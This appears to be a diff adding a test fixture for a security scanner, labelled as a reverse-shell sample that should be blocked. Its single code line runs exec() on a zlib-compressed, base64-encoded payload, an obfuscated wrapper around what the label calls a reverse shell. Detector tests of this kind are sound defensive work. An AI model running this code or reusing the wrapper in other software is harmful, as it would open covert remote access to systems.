@@ -1,0 +1,3 @@
+# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/relay_threads.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJx9UcFuwjAMvecrou6SSMyiwC5IPaCNSWjaQKPTDtOEQmNotdKgJKXj75e0pXBg5BL7Pfv5xbmjn1khVWXujT3mSDUeUBukJsU8H1PRBHSvVYLGODoXR5TUKk+p5ActXR+pTTUKaYBku73StmW6rFy3/Sekqc+KLSGGRm05NBdrs8nzavY2jXsndjl/fFkt4/fp5JUTA4kqCkwsY8GgP4Q+hOEQHoIeHY2GnBM/zwt3k2Gh9liwryDZScBfDL6dsHUWosua2WJaw6q0V3HU+hJfxk/zj5gTInHjVrJqccbHhLpTpZnbaKxLbHJ/pLDCGwONyYGF/cGId5xvh9oUVDqzyHzxVXqTlyZl58Ht5m7MNWCwkOyk4R4I/gtY6JZFuu+AuI6YFXqLNjo/qeeM404VkVflTkFoN+5WY2Ppn77aRiUyF/8B+UnUHw==')))
